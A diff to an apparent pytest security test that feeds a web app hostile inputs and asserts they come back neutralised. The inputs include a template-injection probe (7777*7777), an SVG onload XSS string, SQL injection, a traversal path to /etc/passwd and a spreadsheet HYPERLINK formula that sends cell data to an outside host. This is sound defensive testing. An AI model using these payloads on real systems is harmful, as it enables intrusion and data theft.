@@ -29,7 +29,7 @@ NONSENSE = {
     "american": "12/31/2025",
     "formula": '=HYPERLINK("http://x/?"&A1,"klik")',
     "path": "../../etc/passwd",
-    "template": "{{7*7}}{% debug %}",
+    "template": "{{7777*7777}}{% debug %}",
     "script": LIVE,
     "attribute": '"><svg onload=alert(7)>',
     "sql": "' OR 1=1;--",
@@ -58,7 +58,7 @@ def assert_tame(answer, name: str) -> None:
         html = answer.content.decode()
         assert LIVE not in html, name
         assert "<svg onload" not in html, name
-        assert "{{7*7}}" in html or "49{" not in html, name
+        assert "60481729" not in html, name  # 7777 * 7777
 
 
 @pytest.mark.usefixtures("_no_rendering")
